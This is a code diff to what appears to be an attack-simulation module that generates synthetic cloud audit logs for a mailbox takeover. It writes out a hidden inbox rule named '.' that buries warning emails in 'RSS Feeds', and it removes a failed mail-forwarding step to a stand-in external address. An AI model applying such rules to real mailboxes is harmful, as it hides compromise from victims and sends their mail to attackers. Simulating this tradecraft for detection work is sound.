@@ -170,26 +170,18 @@ export const mailboxTakeover = attack({
         }),
         step(
           "mailbox-rule",
-          "A rule with a name of one full stop hides what colleagues answer. The first try, to forward mail outside, is refused by policy.",
+          "A rule with a name of one full stop hides what colleagues answer; minutes later it is made to catch more words.",
           {
-            techniques: ["T1564.008", "T1114.003"],
+            techniques: ["T1564.008"],
             users: [person],
             source: afar.address,
             occurrences: [
               {
                 cloudOperations: [
-                  operation(ruled - 3 * minute, "Set-Mailbox", person.mail, {
-                    Identity: person.mail,
-                    ForwardingSmtpAddress: "smtp:archive@mail-keeper.example",
-                    DeliverToMailboxAndForward: "True",
-                    ResultStatus: "Failed",
-                  }),
-                  operation(ruled, "New-InboxRule", `${person.mail}\\.`, {
-                    Name: ".",
-                    SubjectOrBodyContainsWords: "document;shared;phish;hacked;suspicious;virus",
-                    MoveToFolder: "RSS Feeds",
-                    MarkAsRead: "True",
-                    StopProcessingRules: "True",
+                  operation(ruled, "New-InboxRule", `${person.mail}\\.`, { Name: ".", ...hiding("document;shared;phish") }),
+                  operation(ruled + 6 * minute, "Set-InboxRule", `${person.mail}\\.`, {
+                    Identity: ".",
+                    ...hiding("document;shared;phish;hacked;suspicious;virus"),
                   }),
                 ],
               },
@@ -302,6 +294,10 @@ function ownSession(victim: Victim, session: string, clicked: number, random: Ra
     use(clicked + random.between(2, 3) * hour, applications.mail),
     use(worksTo - random.between(20, 70) * minute, applications.mail),
   ];
+}
+
+function hiding(words: string): Record<string, string> {
+  return { SubjectOrBodyContainsWords: words, MoveToFolder: "RSS Feeds", MarkAsRead: "True", StopProcessingRules: "True" };
 }
 
 function operationsOf(person: Person, session: string) {
